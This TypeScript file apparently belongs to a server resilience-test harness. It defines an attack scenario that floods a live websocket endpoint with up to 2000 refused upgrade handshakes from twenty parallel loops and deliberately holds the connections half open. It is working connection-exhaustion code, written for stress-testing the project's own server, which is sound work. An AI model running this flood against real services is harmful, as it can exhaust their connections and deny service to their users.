import { randomBytes } from 'node:crypto';
import type { Attack } from './attack.ts';

const maxHeld = 2000;

export const refusedHandshakes: Attack = {
  name: 'refused handshakes',
  does: 'handshakes of the live channel that are refused, their connections left open, up to 2000 (by a visitor)',
  async run({ attackerHttp, time, note }) {
    let held = 0;
    const one = async () => {
      while (!time.aborted && held < maxHeld) {
        held += 1;
        // Half open: it does not close its side when the server closes.
        const socket = await attackerHttp.dial({ allowHalfOpen: true });
        socket.resume();
        socket.once('close', () => !time.aborted && note('ended by the server'));
        socket.write(
          attackerHttp.head('GET', held % 2 ? '/api/live' : '/attackerHttp', {
            cookie: 'none=1',
            connection: 'Upgrade',
            upgrade: 'websocket',
            'sec-websocket-version': 13,
            'sec-websocket-key': randomBytes(16).toString('base64'),
          }),
        );
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    };
    await Promise.all(Array.from({ length: 20 }, one));
    note('handshakes', held);
    if (!time.aborted) await new Promise((resolve) => time.addEventListener('abort', resolve));
  },
};
